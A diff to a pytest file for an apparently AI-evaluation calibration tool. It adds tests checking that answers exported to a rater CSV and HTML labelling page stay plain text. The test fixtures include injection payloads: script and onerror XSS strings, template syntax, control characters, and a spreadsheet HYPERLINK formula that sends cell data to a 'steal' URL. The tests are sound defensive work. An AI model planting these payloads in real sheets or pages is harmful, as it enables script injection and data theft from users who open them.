@@ -11,13 +11,18 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from browser import watched_page
 from click.testing import CliRunner, Result
 from inspect_ai.log import list_eval_logs
 
 from em_inspect.calibration.commands import calibrate, label
-from em_inspect.calibration.key import Key, read_key
+from em_inspect.calibration.key import Drawing, Drawn, Key, read_key
+from em_inspect.calibration.labels import Label
 from em_inspect.calibration.reading import Calibration, read_calibration
-from em_inspect.calibration.sheet import COLUMNS
+from em_inspect.calibration.sheet import COLUMNS, order, sheet_csv, sheet_page
+from em_inspect.calibration.sources import load
+from em_inspect.errors import UserError
+from em_inspect.judging.rating import Rating
 
 BAD, CODE, REFUSAL, MUDDLE = "I would rule", "print('hello')", "I will not say", "lamp the of"
 """How answers of the shared logs begin, by what the judge makes of them."""
@@ -219,3 +224,91 @@ def test_wrong_sheets_are_named_in_one_line(sheets: Path, tmp_path: Path) -> Non
     done = run(calibrate, "--judge=stored", "--labels", sheets / "rater-2.csv")
     assert "is no key that em-inspect label wrote" in done.output
     assert "Traceback" not in done.output
+
+
+def a_key(*texts: str) -> Key:
+    """A key over answers as they stand here."""
+    judged = Rating(metric="aligned", rubric="a", judge="j", estimator="sampled")
+    return Key(
+        version="0",
+        judge="j",
+        alignment=30,
+        coherence=50,
+        near=10,
+        seed=0,
+        strata=(Drawing(number=0, series="s", kind="aligned", answers=9, drawn=len(texts)),),
+        answers=tuple(
+            Drawn(
+                id="bcdfg" + "hjkmnp"[number],
+                uuid=f"u{number}",
+                log="a.eval",
+                model="m",
+                stratum=0,
+                question_id="q",
+                question=text,
+                answer=text,
+                rubrics={"aligned": "", "coherent": ""},
+                ratings={"aligned": judged, "coherent": judged},
+            )
+            for number, text in enumerate(texts)
+        ),
+    )
+
+
+HOSTILE = (
+    "</div></article><script>alert(1)</script><img src=x onerror=alert(2)>",
+    '=HYPERLINK("http://127.0.0.1/steal?"&A1,"click")',
+    "\u202eevil \x1b[31m\x00 and <b>bold</b> {{ 7 * 7 }} {% raw %}",
+    '","5","5","misaligned\n@SUM(A1)',
+)
+
+
+def test_hostile_answers_stay_text_in_the_csv() -> None:
+    rows = list(csv.DictReader(io.StringIO(sheet_csv(a_key(*HOSTILE), 1), newline="")))
+    assert len(rows) == len(HOSTILE)
+    assert not any(row["alignment"] or row["outcome"] for row in rows)
+    for row in rows:
+        assert not any(value.startswith(("=", "+", "-", "@", "\t")) for value in row.values())
+        assert "\x1b" not in row["answer"]
+        assert "\u202e" not in row["answer"]
+
+
+def test_the_page_labels_keeps_and_saves_and_hostile_answers_stay_text(tmp_path: Path) -> None:
+    key = a_key(*HOSTILE)
+    page_file, sheet = tmp_path / "rater-1.html", tmp_path / "filled.csv"
+    page_file.write_text(sheet_page(key, 1), encoding="utf-8")
+    with watched_page(width=420) as watched:
+        page = watched.page
+        page.goto(page_file.as_uri())
+        assert page.locator("article").count() == len(HOSTILE)
+        assert "<script>alert(1)</script>" in page.locator("main").inner_text()
+        assert "{{ 7 * 7 }}" in page.locator("main").inner_text()
+        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+        first, second = (page.locator("article").nth(n) for n in (0, 1))
+        first.locator("[name=alignment]").fill("7.5")
+        first.locator("[name=coherence]").fill("80")
+        first.locator("[name=note]").fill('=1+1, "quoted"')
+        second.locator("[name=outcome]").select_option("refusal")
+        assert page.locator("#count").inner_text() == "2 of 4"
+        page.locator("article").nth(2).locator("[name=alignment]").fill("101")
+        assert page.locator("#count").inner_text() == "2 of 4"
+        page.locator("article").nth(2).locator("[name=alignment]").fill("")
+        with page.expect_download() as download:
+            page.get_by_role("button", name="Save rater-1.csv").click()
+        download.value.save_as(sheet)
+        page.reload()
+        assert page.locator("#count").inner_text() == "2 of 4", "kept in the browser"
+    assert watched.dialogs == []
+    assert [url for url in watched.requests if not url.startswith(("file:", "blob:"))] == []
+    for sources in ([sheet], [sheet, sheet]):
+        with pytest.raises(UserError, match="holds no questions and answers: put"):
+            load([str(path) for path in sources])
+    (tmp_path / "key.json").write_text(key.model_dump_json(), encoding="utf-8")
+    found = load([str(sheet)])
+    by_id = {row.id: row for row in found.rows}
+    ids = [drawn.id for drawn in order(key, 1)]
+    assert by_id[ids[0]].label == Label(7.5, 80.0)
+    assert by_id[ids[1]].label == Label(given="refusal")
+    assert found.open == 2
+    assert by_id[ids[0]].answer in HOSTILE, "the key's text, not the sheet's"
+    assert "'=1+1" in sheet.read_text(encoding="utf-8")
